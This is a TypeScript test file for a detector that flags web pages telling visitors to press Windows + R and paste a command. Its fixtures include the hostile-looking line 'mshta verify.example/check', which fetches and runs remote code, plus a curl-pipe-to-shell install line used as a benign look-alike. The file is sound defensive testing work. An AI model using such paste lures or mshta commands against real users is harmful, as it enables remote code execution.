import { commandToPaste } from '../../../../src/detection/signals/command-to-paste.ts';
import { testSignal } from './test-signal.ts';

testSignal(commandToPaste, {
  found: [
    {
      on: 'keys to press, in order',
      page: { runs: [{ layer: 'Press Windows + R' }, { layer: 'Press Ctrl + V, then Enter' }] },
      gives: { strength: 1, quote: 'Windows + R' },
    },
    {
      on: 'the same in German',
      page: { documentLanguage: 'de', runs: ['Drücken Sie Win und R', 'Mit Strg + V einfügen'] },
      gives: { strength: 1 },
    },
    {
      on: 'a command and where to paste it',
      page: { runs: ['Paste this text into the window', { control: 'mshta verify.example/check' }] },
      gives: { strength: 0.8, quote: 'mshta' },
    },
  ],
  lookAlikes: [
    {
      on: 'instructions to install a tool, in code',
      page: { runs: [{ heading: 'Install' }, { code: 'curl -fsSL get.tool.example | sh' }] },
    },
    {
      on: 'prose about keys',
      page: { runs: [{ prose: 'Open a terminal and paste the line below.' }, { code: 'npm install tool' }] },
    },
    {
      on: 'a list of keys without pasting',
      page: { runs: ['Windows + R: opens Run', 'Windows + E: opens files'] },
    },
    { on: 'an editor that says how to paste', page: { runs: ['Press Ctrl + V to paste your picture here'] } },
  ],
});
